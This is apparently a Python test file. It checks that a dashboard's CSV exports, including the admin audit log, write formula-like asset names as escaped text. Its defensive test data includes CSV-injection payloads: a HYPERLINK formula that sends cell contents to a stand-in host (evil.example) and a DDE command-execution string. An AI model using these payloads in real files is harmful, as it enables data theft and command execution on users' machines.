"""What the dashboard's download buttons serve: formula-like text arrives as text."""

import csv
import io

from core.flows.child_flow_service import CollectionChildFlowService
from core.flows.orchestrator import MasterFlowOrchestrator
from tests.dashboard.conftest import HOLES, no_exceptions

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"Open")', "+cmd|' /C calc'!A0", "@SUM(1)")


def csv_rows(content: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def starts_like_a_formula(rows: list[dict[str, str]]) -> list[str]:
    return [cell for row in rows for cell in row.values() if cell[:1] in "=+-@\t\r" and cell]


def test_the_flow_pages_csv_downloads_write_formula_like_names_as_text(
    db, tenant, open_page, make_assets, downloaded
):
    assets = make_assets(tenant, len(FORMULAS), **HOLES)
    for asset, name in zip(assets, FORMULAS, strict=True):
        asset.name = name
    db.commit()
    flow_id = MasterFlowOrchestrator(db, tenant).create_flow(flow_name="Formulas")
    service = CollectionChildFlowService(db, tenant)
    selected = [str(asset.id) for asset in assets]
    service.execute_phase(flow_id, "asset_selection", {"selected_asset_ids": selected})
    service.execute_phase(flow_id, "gap_analysis")
    service.execute_phase(flow_id, "questionnaire_generation")
    app = open_page(tenant, "flow", flow_id)
    no_exceptions(app)

    marked = {"'" + name for name in FORMULAS}
    for what, column in (
        ("gaps", "asset_name"),
        ("questionnaires", "asset_name"),
        ("assets", "name"),
    ):
        rows = csv_rows(downloaded(app, f"export_{what}_csv"))
        assert rows and starts_like_a_formula(rows) == [], what
        assert {row[column] for row in rows} == marked, what


def test_the_audit_download_is_written_by_the_same_csv_writer(
    make_tenant, open_page, downloaded, db
):
    admin = make_tenant(role="admin")
    MasterFlowOrchestrator(db, admin).create_flow(flow_name=FORMULAS[0])
    app = open_page(admin, "admin")
    no_exceptions(app)

    content = downloaded(app, "admin_audit_csv")

    assert content.startswith(b"\xef\xbb\xbf")  # the byte-order mark that Excel needs
    [event] = csv_rows(content)
    assert event["Action"] == "Flow created" and FORMULAS[0] in event["Details"]
    assert starts_like_a_formula([event]) == []
